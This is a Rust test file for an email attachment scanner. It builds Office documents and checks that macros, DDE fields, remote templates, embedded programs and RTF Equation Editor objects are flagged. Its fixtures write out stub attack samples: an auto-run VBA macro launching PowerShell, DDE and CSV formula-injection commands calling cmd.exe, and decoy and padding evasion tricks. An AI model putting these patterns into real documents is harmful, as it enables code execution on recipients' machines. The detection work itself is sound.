//! Documents built as Office writes them (compound files with `cfb`, Office Open XML as
//! zips), judged through the attachment policy.

use super::package::tests::package_stream;
use super::vba_dir::tests::dir_listing;
use super::DocumentBudget;
use crate::classify::attachments::tests::zipbuild::zip_of;
use crate::classify::attachments::tests::{part, symbols};
use std::io::{Cursor, Write};

/// `source` as a compressed container of literals only (a flag byte of zeros before every
/// eight bytes), which MS-OVBA's decompressor reads like any other; one chunk.
pub(crate) fn compressed(source: &[u8]) -> Vec<u8> {
    assert!(source.len() <= 3600, "one chunk");
    let mut chunk = Vec::new();
    for eight in source.chunks(8) {
        chunk.push(0);
        chunk.extend_from_slice(eight);
    }
    let header = 0xB000u16 | (chunk.len() as u16 + 2 - 3);
    let mut container = vec![1];
    container.extend_from_slice(&header.to_le_bytes());
    container.extend_from_slice(&chunk);
    container
}

/// A compound file with these streams (paths with `/`; storages made on the way).
pub(crate) fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, bytes) in streams {
        let path = std::path::Path::new(path);
        let mut storage = std::path::PathBuf::from("/");
        for dir in path
            .parent()
            .into_iter()
            .flat_map(|p| p.components())
            .skip(1)
        {
            storage.push(dir);
            if !file.exists(&storage) {
                file.create_storage(&storage).unwrap();
            }
        }
        file.create_stream(path).unwrap().write_all(bytes).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// A `_VBA_PROJECT` stream's first bytes (its reserved id and version; the performance
/// cache after them is left out, as Office may).
const VBA_PROJECT_STREAM: &[u8] = &[0xCC, 0x61, 0xFF, 0xFF, 0, 0, 0];

/// A module stream: compiled code (here noise) and then the compressed source.
fn module(source: &str) -> Vec<u8> {
    let mut stream = vec![0xCCu8; 700];
    stream.extend_from_slice(&compressed(source.as_bytes()));
    stream
}

const DROPPER: &str = "Attribute VB_Name = \"ThisDocument\"\r\n\
    Private Sub Document_Open()\r\n\
    Set s = CreateObject(\"WScript.Shell\")\r\n\
    s.Run \"powershell -enc AAAA\"\r\n\
    End Sub\r\n";

const TOTALS: &str = "Attribute VB_Name = \"Module1\"\r\n\
    Sub Totals()\r\n\
    Range(\"B2\").Value = Application.Sum(Range(\"A1:A9\"))\r\n\
    End Sub\r\n";

/// The `dir` stream of a project whose one module, `ThisDocument`, has its source at 700
/// (where [`module`] puts it).
fn this_document_dir() -> Vec<u8> {
    compressed(&dir_listing(&[("ThisDocument", 700)]))
}

/// A Word 97–2003 document whose project holds one module with `source`.
fn word_document(source: &str) -> Vec<u8> {
    compound(&[
        ("/WordDocument", &[0u8; 512]),
        (
            "/Macros/PROJECT",
            b"ID=\"{00000000}\"\r\nDocument=ThisDocument/&H00000000\r\n",
        ),
        ("/Macros/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        ("/Macros/VBA/dir", &this_document_dir()),
        ("/Macros/VBA/ThisDocument", &module(source)),
    ])
}

#[test]
fn a_macro_that_runs_on_opening_and_starts_a_shell_is_found() {
    assert_eq!(
        symbols(&[part(
            "invoice.doc",
            "application/msword",
            &word_document(DROPPER)
        )]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    // A macro run by a button, that only computes: a macro, nothing more.
    assert_eq!(
        symbols(&[part(
            "totals.doc",
            "application/msword",
            &word_document(TOTALS)
        )]),
        vec!["OFFICE_MACRO"]
    );
    // The same document without a project: nothing.
    let plain = compound(&[("/WordDocument", &[0u8; 512]), ("/1Table", &[0u8; 64])]);
    assert!(symbols(&[part("letter.doc", "application/msword", &plain)]).is_empty());
}

#[test]
fn a_macro_project_inside_a_docm_and_inside_a_zip_is_found() {
    let project = compound(&[
        (
            "/PROJECT",
            b"Document=ThisDocument/&H00000000\r\n".as_slice(),
        ),
        ("/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        ("/VBA/dir", &this_document_dir()),
        ("/VBA/ThisDocument", &module(DROPPER)),
    ]);
    let docm = zip_of(&[
        ("[Content_Types].xml", b"<Types/>".as_slice()),
        ("word/document.xml", b"<w:document/>".as_slice()),
        ("word/vbaProject.bin", project.as_slice()),
    ]);
    assert_eq!(
        symbols(&[part("invoice.docm", "application/octet-stream", &docm)]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    let outer = zip_of(&[("scan/invoice.doc", word_document(DROPPER).as_slice())]);
    assert_eq!(
        symbols(&[part("scan.zip", "application/zip", &outer)]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
}

#[test]
fn a_program_packaged_in_a_document_is_found() {
    let exe = package_stream("invoice.exe", "C:\\x\\invoice.exe", b"MZ\x90\0");
    let doc = compound(&[
        ("/WordDocument", &[0u8; 512]),
        ("/ObjectPool/_1234567890/\u{1}Ole10Native", &exe),
    ]);
    assert_eq!(
        symbols(&[part("order.doc", "application/msword", &doc)]),
        vec!["OFFICE_EMBEDDED_PROGRAM"]
    );
    // In a .docx, the object is a compound file of its own among the parts; named as a
    // document, the program is told by its bytes.
    let mut pe = vec![0u8; 256];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3C] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let disguised = package_stream("report.pdf", "C:\\x\\report.pdf", &pe);
    let object = compound(&[("/\u{1}Ole10Native", &disguised)]);
    let docx = zip_of(&[
        ("word/document.xml", b"<w:document/>".as_slice()),
        ("word/embeddings/oleObject1.bin", object.as_slice()),
    ]);
    assert_eq!(
        symbols(&[part("order.docx", "application/octet-stream", &docx)]),
        vec!["OFFICE_EMBEDDED_PROGRAM"]
    );
    // A packaged spreadsheet is no program.
    let sheet = package_stream("figures.csv", "C:\\x\\figures.csv", b"a,b\n1,2\n");
    let doc = compound(&[
        ("/WordDocument", &[0u8; 512]),
        ("/ObjectPool/_1/\u{1}Ole10Native", &sheet),
    ]);
    assert!(symbols(&[part("order.doc", "application/msword", &doc)]).is_empty());
}

#[test]
fn remote_templates_and_dde_fields_in_a_docx_are_found() {
    let rels = b"<Relationships><Relationship Id=\"rId1\" \
        Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" \
        Target=\"http://203.0.113.9/normal.dotm\" TargetMode=\"External\"/></Relationships>";
    let docx = zip_of(&[
        ("word/document.xml", b"<w:document/>".as_slice()),
        ("word/_rels/settings.xml.rels", rels.as_slice()),
    ]);
    assert_eq!(
        symbols(&[part("cv.docx", "application/octet-stream", &docx)]),
        vec!["OFFICE_REMOTE_OBJECT"]
    );
    let dde = b"<w:document><w:r><w:instrText>DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k calc\"</w:instrText></w:r></w:document>";
    let docx = zip_of(&[("word/document.xml", dde.as_slice())]);
    assert_eq!(
        symbols(&[part("notice.docx", "application/octet-stream", &docx)]),
        vec!["OFFICE_DDE"]
    );
}

#[test]
fn an_excel_4_macro_sheet_run_on_opening_is_found() {
    let xls = compound(&[("/Workbook", &super::biff::tests::workbook(0x01, true))]);
    assert_eq!(
        symbols(&[part("remittance.xls", "application/vnd.ms-excel", &xls)]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    let xls = compound(&[("/Workbook", &super::biff::tests::workbook(0x00, false))]);
    assert!(symbols(&[part("figures.xls", "application/vnd.ms-excel", &xls)]).is_empty());
}

#[test]
fn damaged_documents_are_uninspected_and_never_panic() {
    let doc = word_document(DROPPER);
    for cut in [8, 512, 1024, doc.len() / 2] {
        let facts = super::probe_compound(&doc[..cut], &mut DocumentBudget::default());
        assert!(facts.uninspected, "cut at {cut}: {facts:?}");
    }
    // The last byte is padding of the last sector: the document reads whole.
    let _ = super::probe_compound(&doc[..doc.len() - 1], &mut DocumentBudget::default());
    let mut flipped = doc.clone();
    for i in (0..flipped.len()).step_by(97) {
        flipped[i] ^= 0x5A;
    }
    let _ = super::probe_compound(&flipped, &mut DocumentBudget::default());
    // Not a compound file at all: nothing to say.
    assert_eq!(
        super::probe_compound(b"not a compound file", &mut DocumentBudget::default()),
        super::Facts::default()
    );
    // A whole document: all of it read.
    assert!(!super::probe_compound(&doc, &mut DocumentBudget::default()).uninspected);
}

#[test]
fn a_document_the_reader_refuses_is_flagged_uninspected() {
    // A sector size no compound file has: Office is lenient with headers, the reader not.
    let mut doc = word_document(DROPPER);
    doc[30] = 0x20;
    assert_eq!(
        symbols(&[part("invoice.doc", "application/msword", &doc)]),
        vec!["OFFICE_UNINSPECTED"]
    );
    // The same inside a zip.
    let zip = zip_of(&[("invoice.doc", doc.as_slice())]);
    assert_eq!(
        symbols(&[part("invoice.zip", "application/zip", &zip)]),
        vec!["OFFICE_UNINSPECTED"]
    );
    // A truncated presentation or workbook likewise, whatever it is called.
    let xls = compound(&[("/Workbook", &super::biff::tests::workbook(0x00, false))]);
    assert_eq!(
        symbols(&[part("scan.pdf.bin", "", &xls[..600])]),
        vec!["OFFICE_UNINSPECTED"]
    );
}

#[test]
fn an_rtf_exploit_is_found_under_any_name() {
    let rtf = super::rtf::tests::rtf_with_object("Equation.3", &[0x1C, 0, 0, 0, 2, 0], "\r\n");
    assert_eq!(
        symbols(&[part("order.doc", "application/msword", &rtf)]),
        vec!["OFFICE_EQUATION_EDITOR"]
    );
    let native = package_stream("update.js", "C:\\x\\update.js", b"WScript.Echo(1)");
    let rtf = super::rtf::tests::rtf_with_object("Package", &native[4..], " ");
    assert_eq!(
        symbols(&[part("order.rtf", "application/rtf", &rtf)]),
        vec!["OFFICE_EMBEDDED_PROGRAM"]
    );
    // Inside a zip, and in a compound file's equation stream.
    let zip = zip_of(&[("order.doc", rtf.as_slice())]);
    assert_eq!(
        symbols(&[part("order.zip", "application/zip", &zip)]),
        vec!["OFFICE_EMBEDDED_PROGRAM"]
    );
    let object = compound(&[("/Equation Native", &[0x1C, 0, 0, 0, 2, 0])]);
    let docx = zip_of(&[("word/embeddings/oleObject1.bin", object.as_slice())]);
    assert_eq!(
        symbols(&[part("order.docx", "application/octet-stream", &docx)]),
        vec!["OFFICE_EQUATION_EDITOR"]
    );
    let plain = b"{\\rtf1\\ansi Dear customer, {\\b thanks}.}";
    assert!(symbols(&[part("letter.rtf", "application/rtf", plain)]).is_empty());
}

#[test]
fn a_macro_project_inside_a_powerpoint_97_presentation_is_found() {
    let project = compound(&[
        ("/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        (
            "/VBA/dir",
            &compressed(b"\x01\x00\x04\x00\x00\x00\x01\x00\x00\x00"),
        ),
        (
            "/VBA/Module1",
            &module(&DROPPER.replace("Document_Open", "Auto_Open")),
        ),
    ]);
    let stream = super::ppt::tests::presentation_with(&project);
    let ppt = compound(&[
        ("/PowerPoint Document", &stream),
        ("/Current User", &[0u8; 32]),
    ]);
    assert_eq!(
        symbols(&[part("deck.ppt", "application/vnd.ms-powerpoint", &ppt)]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
}

#[test]
fn the_module_dir_names_is_read_where_it_says_decoys_and_padding_aside() {
    // A harmless source in front of the real one, which `dir` points at.
    let mut stream = vec![0xCCu8; 100];
    stream.extend_from_slice(&compressed(TOTALS.as_bytes()));
    stream.resize(700, 0xCC);
    stream.extend_from_slice(&compressed(DROPPER.as_bytes()));
    // A stream Office never loads, holding more source than a message may decompress.
    let mut padding = vec![1u8];
    for _ in 0..1100 {
        padding.extend_from_slice(&0x3FFFu16.to_le_bytes());
        let mut chunk = b"Attribute VB_Name = \"Pad\"\r\n".to_vec();
        chunk.resize(4096, b' ');
        padding.extend_from_slice(&chunk);
    }
    let doc = compound(&[
        ("/WordDocument", &[0u8; 512]),
        ("/Macros/VBA/AAAA", &padding),
        ("/Macros/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        ("/Macros/VBA/dir", &this_document_dir()),
        ("/Macros/VBA/ThisDocument", &stream),
    ]);
    assert_eq!(
        symbols(&[part("invoice.doc", "application/msword", &doc)]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    // Without a `dir` that reads, every source found is read: the decoy hides nothing.
    let doc = compound(&[
        ("/Macros/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        ("/Macros/VBA/dir", b"junk"),
        ("/Macros/VBA/ThisDocument", &stream),
    ]);
    assert!(super::probe_compound(&doc, &mut DocumentBudget::default()).autorun_macro());
}

#[test]
fn the_source_budget_is_the_message_s_not_each_document_s() {
    let doc = word_document(DROPPER);
    let mut budget = DocumentBudget::default();
    assert!(super::probe_compound(&doc, &mut budget).autorun_macro());
    budget.source = 0;
    let facts = super::probe_compound(&doc, &mut budget);
    assert!(facts.macros && !facts.autorun_macro(), "{facts:?}");
    // What the spent allowance left unread is said.
    assert!(facts.uninspected, "{facts:?}");
    // Left with the `dir` listing and 30 bytes: the module is cut, and that is said too.
    let listing = super::vba::decompress(&this_document_dir(), usize::MAX).len();
    budget.source = listing + 30;
    let facts = super::probe_compound(&doc, &mut budget);
    assert!(facts.macros && !facts.runs_on_open, "{facts:?}");
    assert!(facts.uninspected, "{facts:?}");
}

#[test]
fn bounds_reached_leave_the_document_uninspected() {
    // Past the objects read per RTF document: the exploit after them is unread, and said.
    let harmless = super::rtf::tests::rtf_with_object("Word.Picture.8", &[7u8; 16], "");
    let exploit = super::rtf::tests::rtf_with_object("Equation.3", &[0x1C, 0, 0, 0, 2, 0], "");
    let mut rtf = b"{\\rtf1".to_vec();
    for _ in 0..super::rtf::MAX_OBJECTS {
        rtf.extend_from_slice(&harmless[6..harmless.len() - 1]);
    }
    rtf.extend_from_slice(&exploit[6..]);
    assert_eq!(
        symbols(&[part("order.rtf", "application/rtf", &rtf)]),
        vec!["OFFICE_UNINSPECTED"]
    );
    // Exactly the objects read: all of it read.
    let mut rtf = b"{\\rtf1".to_vec();
    for _ in 0..super::rtf::MAX_OBJECTS {
        rtf.extend_from_slice(&harmless[6..harmless.len() - 1]);
    }
    rtf.push(b'}');
    assert!(symbols(&[part("order.rtf", "application/rtf", &rtf)]).is_empty());
    // Presentations inside presentations past the nesting PowerPoint writes.
    let project = compound(&[
        ("/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        ("/VBA/dir", &this_document_dir()),
        ("/VBA/ThisDocument", &module(DROPPER)),
    ]);
    let mut nested = project;
    for _ in 0..3 {
        let stream = super::ppt::tests::presentation_with(&nested);
        nested = compound(&[("/PowerPoint Document", &stream)]);
    }
    assert_eq!(
        symbols(&[part("deck.ppt", "application/vnd.ms-powerpoint", &nested)]),
        vec!["OFFICE_UNINSPECTED"]
    );
}

#[test]
fn a_password_protected_document_is_flagged() {
    // Office Open XML encrypted: a compound file holding the encrypted package.
    let docx = compound(&[
        ("/EncryptionInfo", &[4u8, 0, 4, 0, 0x40, 0, 0, 0]),
        ("/EncryptedPackage", &[0x5Au8; 256]),
    ]);
    assert_eq!(
        symbols(&[part("invoice.docx", "application/octet-stream", &docx)]),
        vec!["OFFICE_ENCRYPTED"]
    );
    let zip = zip_of(&[("invoice.docx", docx.as_slice())]);
    assert_eq!(
        symbols(&[part("invoice.zip", "application/zip", &zip)]),
        vec!["OFFICE_ENCRYPTED"]
    );
}

#[test]
fn caps_cannot_be_spent_by_decoys_in_front() {
    // 100 empty objects in front of an RTF exploit.
    let exploit = super::rtf::tests::rtf_with_object("Equation.3", &[0x1C, 0, 0, 0, 2, 0], "");
    let mut rtf = b"{\\rtf1".to_vec();
    for _ in 0..100 {
        rtf.extend_from_slice(b"{\\*\\objdata }");
    }
    rtf.extend_from_slice(&exploit[6..]);
    assert_eq!(
        symbols(&[part("order.doc", "application/msword", &rtf)]),
        vec!["OFFICE_EQUATION_EDITOR"]
    );
    // 40 record headers that are no storage in front of a presentation's project.
    let project = compound(&[
        ("/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        ("/VBA/dir", &this_document_dir()),
        ("/VBA/ThisDocument", &module(DROPPER)),
    ]);
    let mut stream = Vec::new();
    for _ in 0..40 {
        stream.extend_from_slice(&[0x10, 0x00, 0x11, 0x10, 8, 0, 0, 0, 0, 0, 0, 0, 0]);
    }
    stream.extend(super::ppt::tests::presentation_with(&project));
    let ppt = compound(&[("/PowerPoint Document", &stream)]);
    assert_eq!(
        symbols(&[part("deck.ppt", "application/vnd.ms-powerpoint", &ppt)]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    // A module `dir` names in another code page than its stream's name: read anyway.
    let doc = compound(&[
        ("/Macros/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        (
            "/Macros/VBA/dir",
            &compressed(&dir_listing(&[("\u{dd}\u{f2}\u{e0}", 700)])),
        ),
        ("/Macros/VBA/ThisDocument", &module(DROPPER)),
    ]);
    assert!(super::probe_compound(&doc, &mut DocumentBudget::default()).autorun_macro());
}

#[test]
fn documents_are_judged_off_the_session_threads_like_archives() {
    let policy = crate::classify::attachments::tests::policy();
    let names = vec!["invoice.doc".to_string()];
    let attachment = |data: &[u8]| -> bool {
        let a = crate::classify::attachments::Attachment {
            names: &names,
            content_type: "application/msword",
            data,
            content_left_out: false,
        };
        policy.opens_containers(&[a])
    };
    assert!(attachment(&word_document(DROPPER)));
    assert!(attachment(b"{\\rtf1 x}"));
    assert!(!attachment(b"plain text"));
}

#[test]
fn text_files_office_opens_as_documents_are_judged_at_the_top_and_in_archives() {
    let sylk =
        b"ID;PWXL;N;E\r\nNN;NAuto_Open;ER1C1\r\nC;Y1;X1;EEXEC(\"calc\")\r\nC;Y2;EHALT()\r\nE\r\n";
    // By content, under a spreadsheet's name.
    assert_eq!(
        symbols(&[part("prices.xls", "application/vnd.ms-excel", sylk)]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    let csv = b"name,amount\r\nPay now,=cmd|'/c powershell -w hidden'!A0\r\n";
    assert_eq!(
        symbols(&[part("invoice.csv", "text/csv", csv)]),
        vec!["OFFICE_DDE"]
    );
    let zip = zip_of(&[
        ("invoice.csv", csv.as_slice()),
        ("prices.slk", sylk.as_slice()),
    ]);
    assert_eq!(
        symbols(&[part("invoice.zip", "application/zip", &zip)]),
        vec!["OFFICE_DDE", "OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    // The same words in a text file nobody opens in Excel: nothing.
    assert!(symbols(&[part("notes.txt", "text/plain", csv)]).is_empty());
    let zip = zip_of(&[("notes.txt", csv.as_slice())]);
    assert!(symbols(&[part("notes.zip", "application/zip", &zip)]).is_empty());
}

#[test]
fn a_word_2003_xml_document_s_macro_project_is_read() {
    use base64::Engine;
    let project = compound(&[
        ("/VBA/_VBA_PROJECT", VBA_PROJECT_STREAM),
        ("/VBA/dir", &this_document_dir()),
        ("/VBA/ThisDocument", &module(DROPPER)),
    ]);
    // ActiveMime: its signature, a header whose offset field says 0x32, then zlib.
    let mut mso = b"ActiveMime".to_vec();
    mso.resize(0x1E, 0);
    mso.extend_from_slice(&(0x32u16 - 46).to_le_bytes());
    mso.resize(0x32, 0);
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    z.write_all(&project).unwrap();
    mso.extend(z.finish().unwrap());
    let encoded = base64::engine::general_purpose::STANDARD.encode(&mso);
    let lines: Vec<&str> = encoded
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect();
    let xml = format!(
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
         <w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" \
         w:macrosPresent=\"yes\"><w:docSuppData><w:binData w:name=\"editdata.mso\">{}</w:binData>\
         </w:docSuppData><w:body/></w:wordDocument>",
        lines.join("\r\n")
    );
    assert_eq!(
        symbols(&[part("invoice.doc", "application/msword", xml.as_bytes())]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    // Empty and image blobs in front use up no bound.
    let padded = xml.replace(
        "<w:docSuppData>",
        &format!("<w:docSuppData>{}", "<w:binData></w:binData>".repeat(40)),
    );
    assert_eq!(
        symbols(&[part("invoice.doc", "application/msword", padded.as_bytes())]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    // Past the message's inflation allowance: not read, and said.
    let mut budget = DocumentBudget {
        inflated: 100,
        ..DocumentBudget::default()
    };
    let facts = super::flat::read(&[], "", xml.as_bytes(), &mut budget);
    assert!(!facts.macros && facts.uninspected, "{facts:?}");
    // The same project as a Flat OPC part (`binaryData`, the compound file in base64).
    let flat_opc = format!(
        "<?xml version=\"1.0\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">\
         <pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"application/vnd.ms-office.vbaProject\">\
         <pkg:binaryData>{}</pkg:binaryData></pkg:part></pkg:package>",
        base64::engine::general_purpose::STANDARD.encode(&project)
    );
    assert_eq!(
        symbols(&[part("invoice.xml", "text/xml", flat_opc.as_bytes())]),
        vec!["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"]
    );
    // An image in binData is not a project.
    let picture = xml.replace(
        &lines.join("\r\n"),
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
    );
    assert!(symbols(&[part("letter.xml", "text/xml", picture.as_bytes())]).is_empty());
}
